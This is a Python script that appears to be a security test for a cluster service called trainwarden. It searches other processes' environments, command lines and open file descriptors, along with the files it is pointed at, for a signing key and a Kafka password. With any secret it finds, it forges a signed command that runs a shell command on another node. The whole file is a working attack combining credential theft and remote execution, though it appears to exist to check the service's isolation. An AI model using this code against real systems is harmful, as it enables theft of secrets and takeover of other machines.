"""A job that hunts for the cluster's signing key (issue 29, break 1): it reads
every /proc/*/environ, /proc/*/cmdline and /proc/*/fd/* it can, every file it
can under the directories it is given and the key file itself, and with any
key material it finds signs a start_instance command for another node that
runs ``id > PWNED``. It writes what it did to a JSON report.

    key_hunter.py --report FILE --pwned FILE --nodes N1,N2 [--search DIR]... [--key-file FILE] [--path DIR]...
"""

import argparse
import json
import os
import re
import stat
import sys

SECRET_VARIABLES = ("TRAINWARDEN_SIGNING_KEY", "TRAINWARDEN_KAFKA_SASL_PASSWORD")
KEY_LINE = re.compile(rb"^\s*([A-Za-z0-9][A-Za-z0-9._-]{0,63})\s+([!-~]{32,})\s*$", re.M)
MAX_READ = 1 << 20


class Hunt:
    def __init__(self):
        self.keys = {}  # secret -> where it was found
        self.key_files = set()
        self.read = {"environ": 0, "cmdline": 0, "fd": 0, "files": 0}
        self.refused = {"environ": 0, "cmdline": 0, "fd": 0, "files": 0}

    def _read(self, path, kind):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            try:
                data = os.read(fd, MAX_READ)
            finally:
                os.close(fd)
        except OSError:
            self.refused[kind] += 1
            return None
        self.read[kind] += 1
        return data

    def processes(self):
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            environ = self._read(f"/proc/{entry}/environ", "environ")
            for variable in (environ or b"").split(b"\0"):
                name, _, value = variable.partition(b"=")
                if name.decode(errors="replace") in SECRET_VARIABLES and value:
                    self.keys[value.decode(errors="replace")] = f"/proc/{entry}/environ {name.decode()}"
                elif name == b"TRAINWARDEN_SIGNING_KEY_FILE" and value:
                    self.key_files.add(value.decode(errors="replace"))
            cmdline = (self._read(f"/proc/{entry}/cmdline", "cmdline") or b"").split(b"\0")
            for flag, value in zip(cmdline, cmdline[1:]):
                if flag == b"--signing-key-file":
                    self.key_files.add(value.decode(errors="replace"))
            try:
                descriptors = os.listdir(f"/proc/{entry}/fd")
            except OSError:
                self.refused["fd"] += 1
                continue
            for fd in descriptors:
                # A memory file or an open key file of the service, read through its descriptor
                # (regular files only: a pipe or a terminal would block).
                path = f"/proc/{entry}/fd/{fd}"
                try:
                    regular = stat.S_ISREG(os.stat(path).st_mode)
                except OSError:
                    regular = False
                if regular:
                    self.look_into(self._read(path, "fd"), path)

    def look_into(self, data, where):
        if not data:
            return
        for kid, secret in KEY_LINE.findall(data):
            self.keys[secret.decode()] = f"{where} (key id {kid.decode()})"
        for name in SECRET_VARIABLES:
            for value in re.findall(re.escape(name).encode() + rb'["=:\s]+"?([!-~]{32,}?)["\s,}]', data):
                self.keys[value.decode()] = f"{where} {name}"

    def files(self, roots):
        for root in roots:
            for directory, _, names in os.walk(root):
                for name in names:
                    path = os.path.join(directory, name)
                    if os.path.islink(path) or not os.path.isfile(path):
                        continue
                    self.look_into(self._read(path, "files"), path)
        for path in sorted(self.key_files):
            self.look_into(self._read(path, "files"), path)


def sign_and_send(secrets, target, pwned):
    """A genuine-looking start command for ``target``, signed with each secret found."""
    from trainwarden.bus import COMMANDS
    from trainwarden.bus.kafka import KafkaBus
    from trainwarden.bus.messages import StartInstance
    from trainwarden.bus.serde import encode
    from trainwarden.bus.signing import Keyring, SigningBus, SigningConfig
    from trainwarden.events import InstanceSpec

    sent = 0
    for number, secret in enumerate(secrets):
        for kid in ("default", *re.findall(r"key id (\S+)\)", secrets[secret])):
            keyring = Keyring(((kid, secret.encode()),))
            bus = SigningBus(KafkaBus(os.environ["TRAINWARDEN_KAFKA"]), SigningConfig(keyring), "hunter")
            producer = bus.producer()
            producer.send(COMMANDS, target, encode(StartInstance(
                node=target, job_id=f"pwned-{os.getpid()}-{number}", action_id=f"pwned-{number}-{kid}",
                instance=InstanceSpec(name="worker-0", role="worker", index=0, rank=0), round=0, start=0,
                world_size=1, master_addr="127.0.0.1", master_port=29999,
                command=("sh", "-c", f"id > {pwned}"))))
            producer.flush(30)
            producer.close()
            sent += 1
    return sent


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--report", required=True)
    parser.add_argument("--pwned", required=True)
    parser.add_argument("--nodes", required=True)
    parser.add_argument("--search", action="append", default=[])
    parser.add_argument("--key-file", action="append", default=[])
    parser.add_argument("--path", action="append", default=[], help="more import paths (kafka-python)")
    args = parser.parse_args()
    sys.path[1:1] = [entry for paths in args.path for entry in paths.split(os.pathsep)]
    hunt = Hunt()
    hunt.key_files.update(args.key_file)
    hunt.processes()
    hunt.files(args.search)
    own = os.environ.get("TRAINWARDEN_NODE", "")
    target = next(node for node in args.nodes.split(",") if node != own)
    sent = sign_and_send(hunt.keys, target, args.pwned) if hunt.keys else 0
    report = {"uid": os.getuid(), "groups": os.getgroups(), "node": own, "target": target,
              "found": sorted(hunt.keys.values()), "key_files": sorted(hunt.key_files),
              "read": hunt.read, "refused": hunt.refused, "sent": sent}
    with open(args.report, "w") as out:
        json.dump(report, out)
    print("hunt " + json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
